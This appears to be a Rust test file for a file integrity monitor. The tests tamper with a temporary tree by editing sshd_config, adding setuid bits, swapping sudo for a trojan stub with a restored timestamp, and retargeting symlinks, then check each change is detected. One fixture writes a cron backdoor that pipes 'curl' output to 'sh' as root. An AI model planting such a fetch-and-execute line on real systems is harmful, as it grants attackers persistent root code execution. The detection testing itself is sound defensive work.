//! Each kind of change the issue lists is detected, with the attributes that changed.

mod common;

use common::*;
use rempart_integrity::compare::ChangeKind;
use rempart_integrity::hash::HashAlgo;
use rempart_integrity::report::Verdict;
use std::fs;
use std::os::unix::fs::symlink;
use std::time::{Duration, SystemTime};

#[test]
fn an_untouched_tree_is_clean() {
    let t = Tree::new();
    let b = t.record(&policy(HashAlgo::Blake3));
    let r = t.check(&b);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.comparison.changes);
    assert!(r.issues.is_empty(), "{:?}", r.issues);
    // /etc, /etc/passwd, /etc/ssh, sshd_config, cron.d, e2scrub_all, the link, /usr/bin + 2.
    assert_eq!(r.stats.entries, 10);
    assert_eq!(r.stats.files_hashed, 5);
}

#[test]
fn content_change_is_reported_with_hash_size_and_times() {
    for algo in HashAlgo::ALL {
        let t = Tree::new();
        let b = t.record(&policy(algo));
        std::thread::sleep(Duration::from_millis(20));
        t.write(
            "etc/ssh/sshd_config",
            "PermitRootLogin yes\nPasswordAuthentication no\n",
        );
        let r = t.check(&b);
        assert_eq!(r.verdict, Verdict::Changes);
        let c = only_change(&r, "/etc/ssh/sshd_config", ChangeKind::Changed);
        let names = attr_names(c);
        for a in ["size", "mtime", "ctime", "hash"] {
            assert!(names.contains(&a), "{algo}: {names:?}");
        }
        let h = c.attrs.iter().find(|a| a.attr.name() == "hash").unwrap();
        assert_eq!(h.old.len(), algo.digest_len() * 2);
    }
}

#[test]
fn mode_change_is_reported() {
    let t = Tree::new();
    let b = t.record(&policy(HashAlgo::Blake3));
    t.chmod("etc/passwd", 0o666);
    let r = t.check(&b);
    let c = only_change(&r, "/etc/passwd", ChangeKind::Changed);
    let m = c.attrs.iter().find(|a| a.attr.name() == "mode").unwrap();
    assert_eq!((m.old.as_str(), m.new.as_str()), ("0644", "0666"));
    assert!(
        c.notes.iter().any(|n| n.contains("world-writable")),
        "{:?}",
        c.notes
    );
}

#[test]
fn owner_and_group_changes_are_reported() {
    let t = Tree::new();
    let b = t.record(&policy(HashAlgo::Blake3));
    let me = rustix_uid();
    std::os::unix::fs::lchown(t.path("etc/passwd"), Some(me + 1000), Some(me + 2000))
        .expect("chown needs root (the tests run as root)");
    let r = t.check(&b);
    let c = only_change(&r, "/etc/passwd", ChangeKind::Changed);
    let names = attr_names(c);
    assert!(
        names.contains(&"owner") && names.contains(&"group"),
        "{names:?}"
    );
    let o = c.attrs.iter().find(|a| a.attr.name() == "owner").unwrap();
    assert_eq!(o.new, (me + 1000).to_string());
}

fn rustix_uid() -> u32 {
    use std::os::unix::fs::MetadataExt;
    fs::metadata("/proc/self").map(|m| m.uid()).unwrap_or(0)
}

#[test]
fn a_new_setuid_bit_is_reported_and_flagged() {
    let t = Tree::new();
    let b = t.record(&policy(HashAlgo::Blake3));
    t.chmod("usr/bin/ls", 0o4755);
    let r = t.check(&b);
    let c = only_change(&r, "/usr/bin/ls", ChangeKind::Changed);
    let m = c.attrs.iter().find(|a| a.attr.name() == "mode").unwrap();
    assert_eq!((m.old.as_str(), m.new.as_str()), ("0755", "4755"));
    assert!(
        c.notes.iter().any(|n| n == "setuid bit added"),
        "{:?}",
        c.notes
    );
}

#[test]
fn a_binary_replaced_in_place_with_the_same_size_and_mtime_is_caught() {
    let t = Tree::new();
    let p = t.path("usr/bin/sudo");
    let before = fs::metadata(&p).unwrap().modified().unwrap();
    let b = t.record(&policy(HashAlgo::Blake3));
    std::thread::sleep(Duration::from_millis(20));
    // Same length, other bytes; then the attacker puts the time stamp back.
    fs::write(&p, "\x7fELF sudo trojan v1").unwrap();
    fs::File::options()
        .write(true)
        .open(&p)
        .unwrap()
        .set_modified(before)
        .unwrap();
    assert_eq!(fs::metadata(&p).unwrap().modified().unwrap(), before);
    let r = t.check(&b);
    let c = only_change(&r, "/usr/bin/sudo", ChangeKind::Changed);
    let names = attr_names(c);
    assert!(
        names.contains(&"hash") && names.contains(&"ctime"),
        "{names:?}"
    );
    assert!(
        !names.contains(&"size") && !names.contains(&"mtime"),
        "{names:?}"
    );
    assert!(
        c.notes
            .iter()
            .any(|n| n.contains("time stamp was likely restored")),
        "{:?}",
        c.notes
    );
}

#[test]
fn a_binary_replaced_by_rename_with_the_same_size_and_mtime_is_caught() {
    let t = Tree::new();
    let p = t.path("usr/bin/sudo");
    let before = fs::metadata(&p).unwrap().modified().unwrap();
    let b = t.record(&policy(HashAlgo::Sha256));
    let tmp = t.path("usr/bin/.sudo.new");
    fs::write(&tmp, "\x7fELF sudo trojan v1").unwrap();
    t.chmod("usr/bin/.sudo.new", 0o755);
    fs::File::options()
        .write(true)
        .open(&tmp)
        .unwrap()
        .set_modified(before)
        .unwrap();
    fs::rename(&tmp, &p).unwrap();
    let r = t.check(&b);
    let c = only_change(&r, "/usr/bin/sudo", ChangeKind::Changed);
    let names = attr_names(c);
    assert!(
        names.contains(&"hash") && names.contains(&"inode"),
        "{names:?}"
    );
}

#[test]
fn a_new_file_in_a_watched_directory_is_added() {
    let t = Tree::new();
    let b = t.record(&policy(HashAlgo::Blake3));
    t.write(
        "etc/cron.d/backdoor",
        "* * * * * root curl -s http://x | sh\n",
    );
    let r = t.check(&b);
    let c = only_change(&r, "/etc/cron.d/backdoor", ChangeKind::Added);
    assert!(
        c.summary.as_deref().unwrap().starts_with("file 0644"),
        "{:?}",
        c.summary
    );
}

#[test]
fn a_new_setuid_file_is_flagged() {
    let t = Tree::new();
    let b = t.record(&policy(HashAlgo::Blake3));
    t.write("usr/bin/rootshell", "\x7fELF");
    t.chmod("usr/bin/rootshell", 0o4755);
    let r = t.check(&b);
    let c = only_change(&r, "/usr/bin/rootshell", ChangeKind::Added);
    assert!(
        c.notes.iter().any(|n| n == "new setuid file"),
        "{:?}",
        c.notes
    );
}

#[test]
fn a_removed_file_is_reported() {
    let t = Tree::new();
    let b = t.record(&policy(HashAlgo::Blake3));
    fs::remove_file(t.path("etc/passwd")).unwrap();
    let r = t.check(&b);
    let c = only_change(&r, "/etc/passwd", ChangeKind::Removed);
    assert_eq!(c.entry_kind, rempart_integrity::Kind::File);
}

#[test]
fn a_changed_symlink_target_is_reported() {
    let t = Tree::new();
    let b = t.record(&policy(HashAlgo::Blake3));
    fs::remove_file(t.path("etc/alternatives-ls")).unwrap();
    symlink("../usr/bin/sudo", t.path("etc/alternatives-ls")).unwrap();
    let r = t.check(&b);
    let c = change(&r, "/etc/alternatives-ls");
    let tg = c.attrs.iter().find(|a| a.attr.name() == "target").unwrap();
    assert_eq!(
        (tg.old.as_str(), tg.new.as_str()),
        ("../usr/bin/ls", "../usr/bin/sudo")
    );
}

#[test]
fn a_file_replaced_by_a_directory_is_a_type_change() {
    let t = Tree::new();
    let b = t.record(&policy(HashAlgo::Blake3));
    fs::remove_file(t.path("etc/passwd")).unwrap();
    fs::create_dir(t.path("etc/passwd")).unwrap();
    let r = t.check(&b);
    let c = change(&r, "/etc/passwd");
    let ty = c.attrs.iter().find(|a| a.attr.name() == "type").unwrap();
    assert_eq!((ty.old.as_str(), ty.new.as_str()), ("file", "directory"));
}

#[test]
fn extended_attributes_and_acls_are_compared() {
    let t = Tree::new();
    let b = t.record(&policy(HashAlgo::Blake3));
    let p = t.path("usr/bin/ls");
    // A file capability is how a binary gains privileges without setuid.
    let cap = [
        0x01u8, 0, 0, 0x02, 0x00, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
    ];
    match rustix::fs::setxattr(
        &p,
        "security.capability",
        &cap,
        rustix::fs::XattrFlags::empty(),
    ) {
        Ok(()) => {}
        Err(e) => panic!(
            "setxattr security.capability (needs root and xattr support in the temp dir): {e}"
        ),
    }
    let r = t.check(&b);
    let c = only_change(&r, "/usr/bin/ls", ChangeKind::Changed);
    assert!(attr_names(c).contains(&"xattrs"), "{:?}", c.attrs);
    assert!(
        c.notes.iter().any(|n| n == "file capabilities added"),
        "{:?}",
        c.notes
    );

    // A POSIX ACL entry is reported as `acl`, not as `xattrs`.
    let b = t.record(&policy(HashAlgo::Blake3));
    // version 2; USER_OBJ rw-, USER uid 1234 rwx, GROUP_OBJ r--, MASK rwx, OTHER r--
    let mut acl = vec![2u8, 0, 0, 0];
    for (tag, perm, id) in [
        (1u16, 6u16, u32::MAX),
        (2, 7, 1234),
        (4, 4, u32::MAX),
        (0x10, 7, u32::MAX),
        (0x20, 4, u32::MAX),
    ] {
        acl.extend_from_slice(&tag.to_le_bytes());
        acl.extend_from_slice(&perm.to_le_bytes());
        acl.extend_from_slice(&id.to_le_bytes());
    }
    let p = t.path("etc/passwd");
    rustix::fs::setxattr(
        &p,
        "system.posix_acl_access",
        &acl,
        rustix::fs::XattrFlags::empty(),
    )
    .expect("set a POSIX ACL on the temp dir's file system");
    let r = t.check(&b);
    let c = change(&r, "/etc/passwd");
    assert!(attr_names(c).contains(&"acl"), "{:?}", c.attrs);
    assert!(!attr_names(c).contains(&"xattrs"), "{:?}", c.attrs);
}

#[test]
fn directories_do_not_report_their_own_times_when_files_come_and_go() {
    let t = Tree::new();
    let b = t.record(&policy(HashAlgo::Blake3));
    std::thread::sleep(Duration::from_millis(20));
    t.write("etc/new.conf", "x\n");
    let r = t.check(&b);
    // Only the new file: not /etc's mtime, ctime, size or link count.
    only_change(&r, "/etc/new.conf", ChangeKind::Added);
    let _ = SystemTime::now();
}
